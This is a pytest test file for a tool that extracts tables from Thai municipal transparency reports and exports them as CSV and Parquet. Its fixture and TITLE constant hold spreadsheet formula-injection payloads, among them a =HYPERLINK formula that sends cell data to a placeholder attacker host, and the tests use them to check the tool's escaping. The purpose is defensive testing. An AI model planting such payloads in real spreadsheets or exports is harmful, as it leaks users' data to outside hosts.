"""Tables that open right for every analyst: spreadsheets (encoding, formula escape), pandas
(types), machines (datapackage.json, Parquet metadata), notebooks (the Python API), and an
installed copy that reads scans.

Expected values are read from the documents (tests/expected.py, and the fixture written here).
"""

import re
import shutil
import subprocess

import pandas as pd
import pyarrow.parquet as pq
import pytest

import ita_extract
from conftest import ROOT, SAMPLES
from expected import EXPECTED_SCORES
from ita_extract.tables import TABLES, spreadsheet_unescape
from pipeline import main
from tests_support import read_csv

# A measures report whose cells a spreadsheet would run as formulas, in a file whose name
# would be one too. Its measures table (tab-separated, as scrapers write tables) has a list
# bullet in an actions cell.
HOSTILE_REPORT = "\n".join(
    [
        "รายงานผลการดำเนินการตามมาตรการส่งเสริมคุณธรรมและความโปร่งใส ประจำปีงบประมาณ พ.ศ. ๒๕๖๘",
        "องค์การบริหารส่วนตำบลกุดรัง อำเภอกุดรัง จังหวัดมหาสารคาม",
        "",
        "มาตรการ/โครงการ/กิจกรรม\tขั้นตอน/วิธีการดำเนินการ\tระยะเวลาดำเนินการ\tผู้รับผิดชอบ",
        '=HYPERLINK("http://evil.example/?q="&A1,"คลิก")\t- จัดทำคู่มือการปฏิบัติงาน'
        "\tต.ค. ๒๕๖๘ – ก.ย. ๒๕๖๙\t+สำนักปลัด",
        "@SUM(1+1)\t-ประชาสัมพันธ์ทางเว็บไซต์\tต.ค. ๒๕๖๘ – ก.ย. ๒๕๖๙\tกองคลัง",
        "",
    ]
)
HOSTILE_NAME = "=report.txt"
TITLE = '=HYPERLINK("http://evil.example/?q="&A1,"คลิก")'


@pytest.fixture(scope="module")
def hostile_out(tmp_path_factory):
    folder = tmp_path_factory.mktemp("in")
    (folder / HOSTILE_NAME).write_text(HOSTILE_REPORT, encoding="utf-8")
    out = tmp_path_factory.mktemp("out")
    assert main(["run", str(folder), "--out", str(out), "-q", "--format", "both"]) == 0
    return out


def test_csv_cells_a_spreadsheet_would_run_are_escaped(hostile_out):
    rows = read_csv(hostile_out / "measures.csv")
    assert [r["title"] for r in rows] == ["'" + TITLE, "'@SUM(1+1)"]
    assert rows[0]["responsible"] == "'+สำนักปลัด"
    assert {r["source_path"] for r in rows} == {"'" + HOSTILE_NAME}
    # a list bullet is text normalisation, not an escape: it is gone, with no apostrophe
    assert [r["actions"] for r in rows] == ["จัดทำคู่มือการปฏิบัติงาน", "ประชาสัมพันธ์ทางเว็บไซต์"]
    raw = pd.read_parquet(hostile_out / "measures.parquet")
    assert raw["title"].tolist() == [TITLE, "@SUM(1+1)"]  # Parquet keeps the raw text
    assert raw["source_path"].unique().tolist() == [HOSTILE_NAME]


@pytest.mark.parametrize(
    "raw",
    ["=1+1", "+66 81", "-5", "@SUM(A1)", "\tx", "\rx", "'=1", "''+2", "'ok", "ok", "a=b", ""],
)
def test_the_escape_is_undone_exactly(raw):
    escaped = pd.DataFrame({"t": [raw]}, dtype="string")
    from ita_extract.tables import spreadsheet_safe

    cell = spreadsheet_safe(escaped)["t"][0]
    assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r")
    assert spreadsheet_unescape(cell) == raw


def test_a_column_of_mixed_cells_is_escaped_and_unescaped_cell_by_cell():
    """Cells that need no escape sit beside ones that do (and missing values): only the
    ones that start with a formula character change, and reading back restores all."""
    from ita_extract.tables import spreadsheet_safe, spreadsheet_unescaped

    raw = ["ok", "=1+1", None, "'ok", "-5", "a=b", "''+2", ""]
    frame = pd.DataFrame({"t": raw, "n": range(len(raw))}).astype({"t": "string"})
    safe = spreadsheet_safe(frame)
    assert safe["t"].tolist() == ["ok", "'=1+1", pd.NA, "'ok", "'-5", "a=b", "'''+2", ""]
    assert frame["t"][1] == "=1+1"  # the input frame is not changed
    pd.testing.assert_frame_equal(spreadsheet_unescaped(safe), frame)


def test_read_tables_gives_the_same_frames_from_csv_and_parquet(hostile_out):
    csv = ita_extract.read_tables(hostile_out, format="csv")
    parquet = ita_extract.read_tables(hostile_out, format="parquet")
    for name in csv:
        pd.testing.assert_frame_equal(csv[name], parquet[name], check_dtype=True)
    assert csv["measures"]["title"][0] == TITLE


@pytest.fixture(scope="module")
def samples_out(tmp_path_factory):
    out = tmp_path_factory.mktemp("out")
    assert main(["run", str(SAMPLES), "--out", str(out), "-q", "--format", "both"]) == 0
    return out


def test_integer_columns_stay_integers_in_pandas(samples_out):
    tables = ita_extract.read_tables(samples_out, format="csv")
    for name, df in tables.items():
        declared = {c.name: c.dtype for c in TABLES[name + ".csv"]}
        assert {c: str(t) for c, t in df.dtypes.items()} == declared, name
    page = tables["indicator_scores"]["page"]
    assert page.isna().all() and str(page.dtype) == "Int64"  # text files have no pages
    scores = tables["indicator_scores"].query("source_path == '001_8921beb29c9612d0.txt'")
    assert (
        dict(zip(scores["indicator_no"], scores["score"], strict=True))
        == (EXPECTED_SCORES["001_8921beb29c9612d0"])
    )


def test_documents_carry_official_codes_and_english_names(samples_out):
    docs = {r["source_path"]: r for r in read_csv(samples_out / "documents.csv")}
    row = docs["000_1797b4be62800ae6.txt"]  # ตำบลเมืองคง, อำเภอคง, นครราชสีมา
    assert (row["district"], row["district_code"], row["district_en"]) == ("คง", "3004", "Khong")
    assert (row["province_code"], row["province_en"]) == ("30", "Nakhon Ratchasima")


def test_the_datapackage_validates_with_frictionless(samples_out, hostile_out):
    frictionless = pytest.importorskip("frictionless")
    for out in (samples_out, hostile_out):
        report = frictionless.validate(out / "datapackage.json")
        assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])[:5]
    package = frictionless.Package(samples_out / "datapackage.json")
    assert sorted(r.name for r in package.resources) == sorted(n[:-4] for n in TABLES)
    docs = package.get_resource("documents")
    assert docs.schema.primary_key == ["source_path"]
    assert docs.schema.get_field("n_pages").type == "integer"


def test_the_frictionless_command_accepts_the_output(samples_out):
    if shutil.which("frictionless") is None:
        pytest.skip("the frictionless command is not installed")
    done = subprocess.run(
        ["frictionless", "validate", str(samples_out / "datapackage.json")],
        capture_output=True,
        text=True,
    )
    assert done.returncode == 0, done.stdout[-2000:]


def test_parquet_columns_carry_their_meaning(samples_out):
    schema = pq.read_schema(samples_out / "indicator_scores.parquet")
    meaning = {c.name: c.meaning for c in TABLES["indicator_scores.csv"]}
    for field in schema:
        assert field.metadata[b"description"].decode() == meaning[field.name]


def _to_xlsx(csv_files: list, folder):
    """Convert CSV files to xlsx with LibreOffice, as a spreadsheet user opens them: the
    import's character set "UNICODE" is what LibreOffice's import dialog picks for a file that
    starts with a byte-order mark (the mark then says which Unicode encoding it is). Without
    a character set, a headless conversion reads the file as Latin-1 whatever it holds."""
    done = subprocess.run(
        [
            "soffice",
            "--headless",
            f"-env:UserInstallation=file://{folder}/profile",
            "--infilter=CSV:44,34,UNICODE,1",
            "--convert-to",
            "xlsx",
            "--outdir",
            str(folder),
            *map(str, csv_files),
        ],
        capture_output=True,
        text=True,
        timeout=180,
    )
    assert done.returncode == 0, done.stderr


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_a_csv_opens_in_a_spreadsheet_with_thai_intact_and_no_formula(hostile_out, tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    for name in ("documents.csv", "measures.csv"):
        shutil.copy(hostile_out / name, tmp_path / name)  # the files behind the links
    _to_xlsx([tmp_path / "documents.csv", tmp_path / "measures.csv"], tmp_path)
    documents = openpyxl.load_workbook(tmp_path / "documents.xlsx").active
    header = [c.value for c in documents[1]]
    assert header[0] == "doc_id"  # the byte-order mark is not part of the first name
    org = documents.cell(row=2, column=header.index("org_name") + 1)
    assert org.value == "องค์การบริหารส่วนตำบลกุดรัง"
    measures = openpyxl.load_workbook(tmp_path / "measures.xlsx").active
    header = [c.value for c in measures[1]]
    title = measures.cell(row=2, column=header.index("title") + 1)
    assert title.data_type == "s"  # text, not a formula
    assert TITLE in title.value


def test_the_readme_example_of_the_api_runs(tmp_path, monkeypatch, capsys):
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    section = readme.split("## Python API", 1)[1]
    code = re.search(r"```python\n(.*?)```", section, re.S).group(1)
    monkeypatch.chdir(ROOT)
    exec(compile(code.replace("/tmp/ita-out", str(tmp_path / "ita-out")), "README", "exec"), {})
    printed = capsys.readouterr().out.split("\n")
    assert printed[0] == "องค์การบริหารส่วนตำบลกุดรัง 91.76"
    assert printed[-2] == "Float64 Int64"


def test_extract_file_never_raises_on_a_bad_file(tmp_path):
    bad = tmp_path / "broken.pdf"
    bad.write_bytes(b"%PDF-1.7 this is not a PDF")
    result = ita_extract.extract_file(bad)
    assert result.document.status == "failed" and "PDF" in result.document.error
    frames = ita_extract.to_frames(result)
    assert frames["documents"]["status"].tolist() == ["failed"]
